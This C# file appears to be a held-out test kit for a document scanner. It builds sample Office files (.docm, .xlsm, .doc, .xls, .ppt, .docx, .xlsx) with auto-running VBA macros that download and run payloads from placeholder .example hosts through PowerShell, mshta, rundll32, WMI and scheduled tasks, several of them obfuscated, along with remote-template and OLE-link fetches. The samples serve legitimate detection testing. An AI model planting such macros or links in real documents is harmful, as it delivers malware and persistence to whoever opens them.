namespace ScanHost.TestKit.HeldOut.Fourth;

/// <summary>Documents of the new format whose macros run by themselves.</summary>
public sealed class MacroThatStartsByItself : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Invoice_3391.docm", OoxmlBuilder.Word("<w:p><w:r><w:t>This document was created in an earlier version of Microsoft Office. Click Enable Editing, then Enable Content.</w:t></w:r></w:p>").WithMacros(Project("ThisDocument", """
            Sub AutoOpen()
                Dim http As Object, st As Object
                Set http = CreateObject("Microsoft.XMLHTTP")
                http.Open "GET", "https://invoices.bill-center.example/dl/3391", False
                http.Send
                Set st = CreateObject("ADODB.Stream")
                st.Open
                st.Type = 1
                st.Write http.responseBody
                st.SaveToFile Environ("TEMP") & "\inv.exe", 2
                Shell Environ("TEMP") & "\inv.exe", vbHide
            End Sub
            """)).Build());
        yield return ("Lieferschein_Nr_40018.xlsm", OoxmlBuilder.Excel().WithMacros(new VbaProjectBuilder().Module("DieseArbeitsmappe", """
            Private Sub Workbook_Open()
                Application.ScreenUpdating = False
                Call Berechnung
            End Sub
            """).Module("Modul1", """
            Function zs(ByVal t As String) As String
                Dim i As Long
                For i = 1 To Len(t) Step 2
                    zs = zs & Chr(Val("&H" & Mid(t, i, 2)) Xor 19)
                Next i
            End Function
            Sub Berechnung()
                Dim w: Set w = GetObject(zs("HEX1"))
                w.Create zs("HEX2"), Null, Null, 0
            End Sub
            """.Replace("HEX1", Convert.ToHexString(Xored("winmgmts:\\\\.\\root\\cimv2:Win32_Process", 19)), StringComparison.Ordinal).Replace("HEX2", Convert.ToHexString(Xored("powershell -w hidden iex(irm https://lief.schein-druck.example/x)", 19)), StringComparison.Ordinal)).Build()).Build());
        yield return ("Salary_Adjustment.dotm", OoxmlBuilder.Word($"<w:p><w:r><w:t>{Filler.Prose(44, 500).ReplaceLineEndings(" ")}</w:t></w:r></w:p>").WithMacros(new VbaProjectBuilder().Module("NewMacros", """
            Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a As LongPtr, ByVal s As Long, ByVal t As Long, ByVal p As Long) As LongPtr
            Private Declare PtrSafe Sub RtlMoveMemory Lib "kernel32" (ByVal d As LongPtr, ByRef s As Any, ByVal l As Long)
            Private Declare PtrSafe Function EnumSystemLocalesA Lib "kernel32" (ByVal p As LongPtr, ByVal f As Long) As Long
            Sub Document_Open()
                If Application.UserName = "admin" Or Documents.Count > 9 Then Exit Sub
                Dim b As Variant, m As LongPtr, i As Long, v As Long
                b = Array(0, 0, 0, 0, 0, 0, 0, 0)
                m = VirtualAlloc(0, UBound(b) + 1, &H1000, &H40)
                For i = LBound(b) To UBound(b)
                    v = b(i)
                    RtlMoveMemory m + i, v, 1
                Next i
                EnumSystemLocalesA m, 0
            End Sub
            """).Build()).Build());
        yield return ("Survey_Results.docm", OoxmlBuilder.Word("<w:p/>").Part("docProps/app.xml", $"<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties\"><Company>{Backwards("powershell.exe -nop -w 1 -c \"iwr https://survey.form-res.example/s -useb|iex\"").Replace("\"", "&quot;", StringComparison.Ordinal)}</Company></Properties>")
            .WithMacros(Project("ThisDocument", """
            Sub Document_Close()
                On Error Resume Next
                Dim p As String
                p = StrReverse(ThisDocument.BuiltInDocumentProperties("Company").Value)
                With CreateObject("Sch" & "edule.Ser" & "vice")
                    .Connect
                    Set t = .NewTask(0)
                    Set a = t.Actions.Create(0)
                    a.Path = "conhost.exe": a.Arguments = "--headless " & p
                    t.Triggers.Create 9
                    .GetFolder("\").RegisterTaskDefinition "SurveySync", t, 6, "", "", 3
                End With
            End Sub
            """)).Build());
    }
}

/// <summary>The same in compound files.</summary>
public sealed class MacroInCompoundFile : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Contract_amendment.doc", Word(new VbaProjectBuilder().Module("ThisDocument", """
            Private Sub Document_Open()
            x = UserForm1.TextBox1.Tag
            Dim q As New WshShell
            q.Run "cmd /c set u=https://doc-1.contract-amend.example/wp-content/a/&& powershell -c iwr %u% -o $env:tmp\a.dll; rundll32 $env:tmp\a.dll,Control_RunDLL", 0
            End Sub
            """)));
        yield return ("Bewerbung_Schmidt.doc", Word(new VbaProjectBuilder().Module("ThisDocument", $"""
            Dim Qwz(3)
            ' {Filler.Prose(55, 200).Replace("\n", "\n            ' ", StringComparison.Ordinal)}
            Sub autoopen()
            Debug.Print MsgBox("Fehler beim Konvertieren des Dokuments", vbCritical)
            h = Split("{Backwards("cmd|/c|curl|-o|%APPDATA%\\w.hta|https://bewerbung.job-anlage.example/w|&|start|%APPDATA%\\w.hta")}", "|")
            For i = UBound(h) To 0 Step -1
            r = r & StrReverse(h(i)) & " "
            Next
            CreateObject(Replace("WSxxcripxxt.Shexxll", "xx", "")).Exec r
            End Sub
            """)));
        yield return ("PO-77810.xls", new VbaProjectBuilder().Module("ThisWorkbook", """
            Sub Auto_Open()
            Set o = CreateObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8")
            o.Run "mshta https://po.bitly-short.example/abc", 0
            End Sub
            """).AddTo(new OleFileBuilder().Stream("Workbook", BiffBuilder.MacroSheet("=HALT()", autoName: 0, isMacroSheet: false)), "_VBA_PROJECT_CUR").Build());
        yield return ("Quote_Request.ppt", new VbaProjectBuilder().Module("Module1", """
            Sub Auto_Close()
            Dim a As String: a = Chr$(109) & Chr$(115) & Chr$(104) & Chr$(116) & Chr$(97)
            Call Shell(a & " https://quotes.rfq-blog.example/p/1.html", 0)
            CreateObject("WScript.Shell").RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Pdf", a & " vbscript:CreateObject(""WScript.Shell"").Run(""powershell"")(window.close)"
            End Sub
            """).AddTo(new OleFileBuilder().Stream("PowerPoint Document", Filler.Noise(2, 5000)).Stream("Current User", new byte[64]), "Macros").Build());
    }

    // The first fields of the FIB, [MS-DOC] 2.5.1, and nothing of the text.
    private static byte[] Word(VbaProjectBuilder project) =>
        project.AddTo(new OleFileBuilder().Stream("WordDocument", [0xEC, 0xA5, 0xC1, 0, .. new byte[4096]]).Stream("1Table", new byte[4096]), "Macros").Build();
}

/// <summary>Documents that fetch a template, an object or a frame when they are opened.</summary>
public sealed class DocumentThatFetchesAPart : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Security_Clearance_Form.docx", OoxmlBuilder.Word().Part("word/settings.xml", "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>")
            .Relationship("word/_rels/settings.xml.rels", "attachedTemplate", "https://templates.clearance-gov.example/normal.dotm").Build());
        yield return ("Tender_annex.docx", OoxmlBuilder.Word("<w:p><w:r><w:object><o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" Type=\"Link\" ProgID=\"htmlfile\" UpdateMode=\"OnCall\" r:id=\"rId1\"/></w:object></w:r></w:p>")
            .Relationship("word/_rels/document.xml.rels", "oleObject", "mhtml:https://annex.tender-eu.example/RDF842l.html!x-usc:https://annex.tender-eu.example/RDF842l.html").Build());
        yield return ("Budget2027.docx", OoxmlBuilder.Word($"<w:p><w:r><w:t>{Filler.Prose(66, 250).ReplaceLineEndings(" ")}</w:t></w:r></w:p>")
            .Part("word/webSettings.xml", "<w:webSettings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><w:frameset><w:frame><w:sourceFileName r:id=\"rId1\"/></w:frame></w:frameset></w:webSettings>")
            .Relationship("word/_rels/webSettings.xml.rels", "frame", "http://user:pw@0x0c.budget-share.example@budget-share.example/doc.rtf").Build());
        yield return ("Order_sheet.xlsx", OoxmlBuilder.Excel().Part("xl/worksheets/sheet1.xml", "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheetData/><oleObjects><oleObject progId=\"Word.Document.12\" dvAspect=\"DVASPECT_ICON\" link=\"[1]!''''\" oleUpdate=\"OLEUPDATE_ALWAYS\" shapeId=\"1025\"/></oleObjects></worksheet>")
            .Relationship("xl/externalLinks/_rels/externalLink1.xml.rels", "oleObject", "https://shrt.xlsx-view.example/k2Pz9/doc_final_v2.doc").Part("xl/externalLinks/externalLink1.xml", "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><oleLink r:id=\"rId1\" progId=\"Word.Document.12\"><oleItems><oleItem name=\"'\" advise=\"1\"/></oleItems></oleLink></externalLink>").Build());
    }
}
